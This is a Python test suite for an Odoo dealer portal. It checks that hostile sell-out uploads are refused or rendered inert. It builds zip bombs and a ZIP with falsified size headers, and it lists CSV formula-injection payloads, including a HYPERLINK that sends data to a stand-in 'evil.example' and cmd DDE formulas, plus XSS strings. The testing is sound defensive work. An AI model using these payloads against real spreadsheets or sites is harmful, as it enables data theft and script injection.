import io
import json
import re
import struct
import zipfile

import openpyxl
from PIL import Image

from odoo import fields, http
from odoo.exceptions import UserError
from odoo.tests import HttpCase, freeze_time, tagged
from odoo.tools import SQL, file_open, mute_logger

from .common import DealerCommon

HEADER = "日期,产品编码,数量,单价,客户编码,客户名称,单据号\n"
ROW = "2026-10-05,T-TEA,1,38,C-A-001,,H-1\n"
MB = 1024 * 1024


def hostile(name):
    """A file of the corpus in tests/data/hostile (see its README)."""
    with file_open(f"dealer_portal/tests/data/hostile/{name}", "rb") as file:
        return file.read()


def png():
    output = io.BytesIO()
    Image.new("RGB", (4, 4), "red").save(output, format="PNG")
    return output.getvalue()


def xlsx(rows):
    workbook = openpyxl.Workbook()
    for row in rows:
        workbook.active.append(row)
    output = io.BytesIO()
    workbook.save(output)
    return output.getvalue()


def zip_bomb(megabytes=210):
    """A workbook whose sheet unpacks to ``megabytes`` of XML, from ~200 KB."""
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            chunk = b"<row><c><v>1</v></c></row>" * (MB // 26)
            for _megabyte in range(megabytes):
                sheet.write(chunk)
    return output.getvalue()


def lying_zip():
    """A workbook whose sheet says it unpacks to 1 KB, and unpacks to 20 MB."""
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"<row/>" * (20 * MB // 6))
    content = bytearray(output.getvalue())
    archive = zipfile.ZipFile(io.BytesIO(bytes(content)))
    sheet = archive.getinfo("xl/worksheets/sheet1.xml")
    # uncompressed size: in the local header at +22, in the central directory
    # record at +24
    struct.pack_into("<I", content, sheet.header_offset + 22, 1024)
    record = content.rfind(b"PK\x01\x02", 0, content.find(b"PK\x05\x06"))
    struct.pack_into("<I", content, record + 24, 1024)
    return bytes(content)


@freeze_time("2026-11-27")
class TestSelloutHostile(DealerCommon):
    """Hostile files through the model: refused with one message and nothing
    written, or read with a message per unreadable row and column."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls._deliver(cls.dealer_a, cls.product_tea, 100, "LOT-T1")
        cls.Batch = cls.env["dealer.sellout.batch"].with_user(cls.user_a)

    def _counts(self):
        """Rows of every table an upload or a submission writes."""
        self.env.flush_all()
        [counts] = self.env.execute_query(
            SQL(
                """
                SELECT (SELECT COUNT(*) FROM dealer_sellout_batch),
                       (SELECT COUNT(*) FROM dealer_sellout_line),
                       (SELECT COUNT(*) FROM dealer_sellout_issue),
                       (SELECT COUNT(*) FROM dealer_stock_move),
                       (SELECT COUNT(*) FROM dealer_customer),
                       (SELECT COUNT(*) FROM ir_attachment
                         WHERE res_model = 'dealer.sellout.batch')
                """
            )
        )
        return counts

    def _upload(self, content, name="hostile.csv"):
        return self.Batch._upload(self.dealer_a, name, content).sudo()

    def assertRefused(self, content, message, name="hostile.csv"):
        before = self._counts()
        with self.assertRaises(UserError) as caught:
            self._upload(content, name)
        self.assertRegex(str(caught.exception), message)
        self.assertEqual(self._counts(), before, "a refused file writes nothing")

    def assertRowFaults(self, batch, expected):
        """Every row is there; the unreadable ones name their column; the batch
        cannot be submitted, and trying writes nothing."""
        faults = {
            line.row_number: line.error_message
            for line in batch.line_ids
            if line.error_message
        }
        self.assertEqual(sorted(faults), sorted(expected))
        for row, (column, message) in expected.items():
            with self.subTest(row=row):
                self.assertEqual(faults[row], f"{column}: {message}")
        before = self._counts()
        rows = ", ".join(str(row) for row in sorted(expected))
        with self.assertRaisesText(UserError, f"before submitting: {rows}."):
            batch.action_submit()
        self.assertEqual(self._counts(), before)
        self.assertEqual(batch.state, "draft")

    # -- files refused as a whole ------------------------------------------

    def test_files_that_are_no_sell_out_are_refused(self):
        not_a_workbook = io.BytesIO()
        with zipfile.ZipFile(not_a_workbook, "w") as archive:
            archive.writestr("hello.txt", "你好")
        not_a_workbook = not_a_workbook.getvalue()
        cases = {
            "empty": (b"", "The file is empty."),
            "blank": (b" \r\n\t\n", "The file is empty."),
            "headers only": (
                hostile("headers_only.csv"),
                "holds no sell-out line under its header",
            ),
            "PNG as .xlsx": (png(), "The file is a PNG file, not a sell-out"),
            "PDF as .csv": (
                b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj <<>> endobj\n%%EOF\n",
                "The file is a PDF file, not a sell-out",
            ),
            "zip, no workbook": (not_a_workbook, "The XLSX workbook cannot be read."),
            "UTF-16 without BOM": (
                (HEADER + ROW).encode("utf-16-le"),
                r"not a CSV or XLSX sell-out file \(if it is text, save it as CSV",
            ),
            "latin-1": (
                "date,product_code,qty,customer_name\n2026-10-05,T-TEA,1,Café Müller\n"
                "".encode("latin-1"),
                "neither UTF-8 nor GBK/GB18030",
            ),
            "Big5": (
                "日期,產品編碼,數量,客戶名稱\n2026-10-05,T-TEA,1,臺北門市\n".encode(
                    "big5"
                ),
                "neither UTF-8 nor GBK/GB18030|No header row found",
            ),
            "bad UTF-8 after a BOM": (
                b"\xef\xbb\xbf" + HEADER.encode() + b"\xff\xfe\xfa\n",
                "says it is UTF-8 text but is not",
            ),
        }
        huge = HEADER + ROW + '2026-10-05,T-TEA,1,38,,"' + "x" * 200000 + '",H-2\n'
        cases["a cell over the CSV reader's limit"] = (
            huge.encode(),
            "Row 3 cannot be read: a quote is not closed, or a cell holds more than "
            "131072 characters.",
        )
        for case, (content, message) in cases.items():
            with self.subTest(case=case):
                self.assertRefused(content, message)

    def test_zip_bombs_are_refused_before_they_are_unpacked(self):
        self.assertRefused(
            zip_bomb(),
            "The XLSX workbook unpacks to more than 200 MB: split it",
            "bomb.xlsx",
        )
        self.assertRefused(lying_zip(), "The XLSX workbook is damaged", "liar.xlsx")

    def test_files_over_the_size_limit_are_refused(self):
        self.assertEqual(self.env.company.dealer_sellout_max_upload_mb, 20)
        self.env.company.dealer_sellout_max_upload_mb = 1
        content = (HEADER + ROW * (MB // len(ROW) + 1)).encode()
        self.assertGreater(len(content), MB)
        self.assertRefused(
            content, "The file is larger than 1 MB: split it into smaller files."
        )
        self.assertEqual(
            self._upload(content[: MB - 100].rsplit(b"\n", 1)[0]).state, "draft"
        )

    # -- files read, whatever their encoding --------------------------------

    def test_encodings_that_are_read(self):
        text = HEADER + "2026-10-05,T-TEA,1,38,,嘉兴测试超市,E-1\n"
        cases = {
            "GBK": text.encode("gbk"),
            "GB18030": text.replace("E-1", "E-2").encode("gb18030"),
            "UTF-8 with BOM": b"\xef\xbb\xbf" + text.replace("E-1", "E-3").encode(),
            "UTF-16 with BOM, tabs (Excel's Unicode text)": text.replace("E-1", "E-4")
            .replace(",", "\t")
            .encode("utf-16"),
        }
        for case, content in cases.items():
            with self.subTest(case=case):
                batch = self._upload(content, f"{case}.csv")
                self.assertFalse(any(batch.line_ids.mapped("error_message")))
                self.assertEqual(batch.line_ids.customer_id, self.customer_a)

    def test_control_characters_are_dropped(self):
        batch = self._upload(hostile("control_characters.csv"))
        first, second = batch.line_ids.sorted("row_number")
        self.assertEqual(first.product_id, self.product_tea)
        self.assertEqual(first.customer_name, "嘉兴测试超市")
        self.assertEqual(first.customer_id, self.customer_a)
        self.assertEqual(second.date, fields.Date.to_date("2026-10-06"))
        self.assertFalse(any(batch.line_ids.mapped("error_message")))

    def test_ten_thousand_character_cells(self):
        long_name, long_number = "名" * 10000, "9" * 10000
        batch = self._upload(
            (
                HEADER
                + f"2026-10-05,T-TEA,1,38,,{long_name},L-1\n"
                + f"2026-10-05,T-TEA,{long_number},38,C-A-001,,L-2\n"
                + f"{long_number},T-TEA,1,38,C-A-001,,L-3\n"
            ).encode()
        )
        cut = "9" * 40 + "…"
        self.assertRowFaults(
            batch,
            {
                2: ("客户名称", "The text is longer than 200 characters."),
                3: ("数量", f"{cut} is too large for a quantity."),
                4: (
                    "日期",
                    f"{cut} is not a date: write it as 2026-10-05, 2026/10/05 or "
                    "2026年10月5日.",
                ),
            },
        )

    # -- rows that cannot be read -------------------------------------------

    def test_absurd_numbers_name_their_row_and_column(self):
        batch = self._upload(hostile("absurd_numbers.csv"))
        self.assertEqual(batch.line_count, 7)
        self.assertRowFaults(
            batch,
            {
                2: ("数量", "1e308 is too large for a quantity."),
                3: ("数量", "The quantity is zero."),
                4: ("数量", "NaN is not a quantity."),
                5: ("数量", "99999999999999999999 is too large for a quantity."),
                6: ("数量", "1.12345678901234567890 has more than 6 decimals."),
                7: ("单价", "1e308 is too large for a unit price."),
                8: ("数量", "inf is not a quantity."),
            },
        )

    def test_absurd_dates_name_their_row_and_column(self):
        batch = self._upload(hostile("absurd_dates.csv"))
        write_it = "is not a date: write it as 2026-10-05, 2026/10/05 or 2026年10月5日."
        self.assertRowFaults(
            batch,
            {
                2: ("日期", "0000-00-00 is not a date."),
                3: (
                    "日期",
                    "9999-12-31 is not a date of sale: write a date between 1990 "
                    "and 2099.",
                ),
                4: ("日期", "2026年13月40日 is not a date."),
                5: ("日期", f"0 {write_it}"),
                6: ("日期", f"-1 {write_it}"),
                7: ("日期", f"1000000000 {write_it}"),
            },
        )

    def test_absurd_excel_serial_dates(self):
        header = ["日期", "产品编码", "数量", "单价", "客户编码"]
        batch = self._upload(
            xlsx(
                [header]
                + [
                    [serial, "T-TEA", 1, 38, "C-A-001"]
                    for serial in (0, -1, 10**9, 1, 46300)
                ]
            ),
            "serials.xlsx",
        )
        self.assertRowFaults(
            batch,
            {
                2: ("日期", "0 is not a date."),
                3: ("日期", "-1 is not a date."),
                4: ("日期", "1000000000 is not a date."),
                5: (
                    "日期",
                    "1 is not a date of sale: write a date between 1990 and 2099.",
                ),
            },
        )
        self.assertEqual(
            batch.line_ids.filtered(lambda line: line.row_number == 6).date,
            fields.Date.to_date("2026-10-05"),
        )

    # -- texts that are code ---------------------------------------------------

    def test_formulas_stay_texts_in_every_export(self):
        batch = self._upload(hostile("formulas.csv"))
        names = batch.line_ids.sorted("row_number").mapped("customer_name")
        self.assertEqual(
            names,
            [
                '=HYPERLINK("http://evil.example/?d="&A1,"领奖")',
                "+cmd|' /C calc'!A0",
                "-1+1",
                "@SUM(1+1)*cmd|' /C calc'!A0",
            ],
        )
        self.assertFalse(any(batch.line_ids.mapped("error_message")))
        batch.action_submit()
        # the new customers are in the dealer's template now
        template = self.env["dealer.sellout.batch"]._template_xlsx(self.dealer_a)
        sheet = openpyxl.load_workbook(io.BytesIO(template)).worksheets[2]
        cells = {row[1].value: row[1].data_type for row in sheet.iter_rows(min_row=2)}
        for name in names:
            self.assertEqual(cells[name], "s", name)

    def test_html_is_kept_as_text_and_escaped_in_messages(self):
        batch = self._upload(hostile("html_names.csv"))
        self.assertEqual(
            batch.line_ids.sorted("row_number").mapped("customer_name")[:2],
            ["<script>alert('xss')</script>", "<img src=x onerror=alert(1)>"],
        )
        self.assertRowFaults(
            batch,
            {
                4: (
                    "日期",
                    "<svg onload=alert(1)> is not a date: write it as 2026-10-05, "
                    "2026/10/05 or 2026年10月5日.",
                )
            },
        )
        unreadable = batch.line_ids.filtered("error_message")
        # corrected, it sells beyond stock: it waits for a decision
        unreadable._correct(
            {
                **unreadable._form_values(),
                "date": "2026-10-05",
                "quantity": "500",
                "amount": "",
            }
        )
        batch.action_submit()
        self.assertEqual(batch.review_count, 1)
        issue = batch.issue_ids.filtered(lambda issue: issue.rule == "oversell")
        issue._decide("rejected", "<img src=x onerror=alert(1)> 请核实")
        [decision] = [
            message.body for message in batch.message_ids if "请核实" in message.body
        ]
        self.assertIn("&lt;img src=x onerror=alert(1)&gt; 请核实", decision)
        self.assertNotIn("<img", decision)
        for message in batch.message_ids:
            self.assertNotIn("<script", message.body)
            self.assertNotIn("<img", message.body)
        mails = self.env["mail.mail"].search(
            [("mail_message_id", "in", batch.message_ids.ids)]
        )
        self.assertTrue(mails, "the dealer is told by e-mail")
        for mail in mails:
            self.assertNotIn("<img src=x", mail.body_html)


@tagged("post_install", "-at_install")
@freeze_time("2026-11-27")
class TestSelloutHostileHttp(DealerCommon, HttpCase):
    """A representative subset through the portal's upload, the API and Odoo's
    list export."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls._deliver(cls.dealer_a, cls.product_tea, 100, "LOT-T1")

    def _counts(self):
        return TestSelloutHostile._counts(self)

    def _login(self, login):
        self.authenticate(login, login)
        page = self.url_open("/my/dealer/sellout/new", allow_redirects=False)
        self._token = re.search(r'name="csrf_token" value="([^"]+)"', page.text).group(
            1
        )

    def _upload(self, content, name="hostile.csv"):
        return self.url_open(
            "/my/dealer/sellout/upload",
            data={"csrf_token": self._token},
            files={"file": (name, content, "text/csv")},
            allow_redirects=False,
        )

    def _batch(self):
        return self.env["dealer.sellout.batch"].search(
            [("dealer_id", "=", self.dealer_a.id)], limit=1
        )

    def test_portal_upload(self):
        self._login("dealer_a")
        self.env.company.dealer_sellout_max_upload_mb = 1
        before = self._counts()
        for content, status, message in (
            (b"", 400, "The file is empty."),
            (png(), 400, "The file is a PNG file, not a sell-out spreadsheet"),
            (zip_bomb(), 400, "The XLSX workbook unpacks to more than 200 MB"),
            (b"x" * (MB + 1), 413, "The file is larger than 1 MB"),
            (b"x" * (3 * MB), 413, "The file is larger than 1 MB"),
        ):
            with self.subTest(message=message):
                response = self._upload(content)
                self.assertEqual(response.status_code, status)
                self.assertIn(message, response.text)
        self.assertEqual(self._counts(), before)
        page = self.url_open("/my/dealer/sellout", allow_redirects=False)
        self.assertIn("up to 1 MB", page.text)

        response = self._upload(hostile("absurd_numbers.csv"))
        batch = self._batch()
        self.assertEqual(response.status_code, 303)
        self.assertEqual(batch.line_count, 7)
        page = self.url_open(f"/my/dealer/sellout/{batch.id}").text
        self.assertIn("99999999999999999999 is too large for a quantity.", page)

    def test_portal_escapes_html_in_names_and_messages(self):
        self._login("dealer_a")
        self._upload(hostile("html_names.csv"))
        batch = self._batch()
        self.assertEqual(batch.line_count, 3)
        for url in (
            f"/my/dealer/sellout/{batch.id}",
            f"/my/dealer/sellout/{batch.id}?show=problems",
            "/my/dealer/sellout",
        ):
            with self.subTest(url=url):
                page = self.url_open(url).text
                for raw in ("<script>alert", "<img src=x", "<svg onload"):
                    self.assertNotIn(raw, page)
        page = self.url_open(f"/my/dealer/sellout/{batch.id}").text
        self.assertIn("&lt;script&gt;alert(&#39;xss&#39;)&lt;/script&gt;", page)
        self.assertIn("&lt;svg onload=alert(1)&gt; is not a date", page)

    def _api(self, body, raw=None):
        # A key that never expires (which takes sudo): the class stops Python's
        # clock on a date, and PostgreSQL checks the expiry against its own.
        key = (
            self.env["res.users.apikeys"]
            .with_user(self.user_a)
            .sudo()
            ._generate(None, "ERP", None)
        )
        self.authenticate(None, None)
        return self.url_open(
            "/api/dealer/v1/sellout",
            data=raw if raw is not None else json.dumps(body),
            headers={
                "Content-Type": "application/json",
                "Authorization": f"Bearer {key}",
            },
            allow_redirects=False,
        )

    def test_api(self):
        line = {
            "date": "2026-10-05",
            "product_code": "T-TEA",
            "qty": 1,
            "unit_price": 38,
            "customer_code": "C-A-001",
        }
        before = self._counts()
        body = {
            "lines": [
                {**line, "qty": float("nan")},
                {**line, "qty": float("inf")},
                {**line, "qty": 1e308},
                {**line, "qty": 99999999999999999999},
                {**line, "qty": "1.12345678901234567890"},
                {**line, "date": "0000-00-00"},
                {**line, "date": 10**9},
                {**line, "customer_code": "", "customer_name": "<script>x</script>"},
            ]
        }
        response = self._api(body)
        self.assertEqual(response.status_code, 201, response.text)
        errors = {
            line["row"]: line["errors"]
            for line in response.json()["lines"]
            if line["errors"]
        }
        self.assertEqual(
            errors,
            {
                1: [{"column": "qty", "message": "nan is not a quantity."}],
                2: [{"column": "qty", "message": "inf is not a quantity."}],
                3: [
                    {"column": "qty", "message": "1e+308 is too large for a quantity."}
                ],
                4: [
                    {
                        "column": "qty",
                        "message": "99999999999999999999 is too large for a quantity.",
                    }
                ],
                5: [
                    {
                        "column": "qty",
                        "message": "1.12345678901234567890 has more than 6 decimals.",
                    }
                ],
                6: [{"column": "date", "message": "0000-00-00 is not a date."}],
                7: [{"column": "date", "message": "1000000000 is not a date."}],
            },
        )
        batch = self.env["dealer.sellout.batch"].browse(response.json()["batch"]["id"])
        self.assertEqual(batch.line_count, 8)
        after = self._counts()
        self.assertEqual(after[3:5], before[3:5], "no ledger line, no customer")

        # submitting refuses, and keeps nothing
        refused = self._api({**body, "submit": True, "client_ref": "H-2"})
        self.assertEqual(refused.status_code, 422)
        self.assertEqual(self._counts(), after)

        self.env.company.dealer_sellout_max_upload_mb = 1
        too_large = self._api(None, raw=json.dumps({"lines": [line] * 20000}))
        self.assertEqual(too_large.status_code, 413)
        self.assertEqual(
            too_large.json()["error"],
            {
                "code": "too_large",
                "message": "The file is larger than 1 MB: split it into smaller files.",
            },
        )

    @mute_logger("odoo.http")
    def test_backend_list_export_writes_formulas_as_texts(self):
        batch = self.env["dealer.sellout.batch"]._upload(
            self.dealer_a, "f.csv", hostile("formulas.csv")
        )
        self.authenticate("admin", "admin")
        response = self.url_open(
            "/web/export/xlsx",
            data={
                "data": json.dumps(
                    {
                        "model": "dealer.sellout.line",
                        "fields": [
                            {"name": "customer_name", "label": "Customer"},
                            {"name": "doc_ref", "label": "Document"},
                        ],
                        "ids": batch.line_ids.ids,
                        "domain": [],
                        "groupby": [],
                        "import_compat": False,
                    }
                ),
                "csrf_token": http.Request.csrf_token(self),
            },
        )
        self.assertEqual(response.status_code, 200)
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
        cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
        self.assertEqual(len(cells), 8)
        self.assertIn(
            '=HYPERLINK("http://evil.example/?d="&A1,"领奖")', [c.value for c in cells]
        )
        self.assertEqual({cell.data_type for cell in cells}, {"s"})
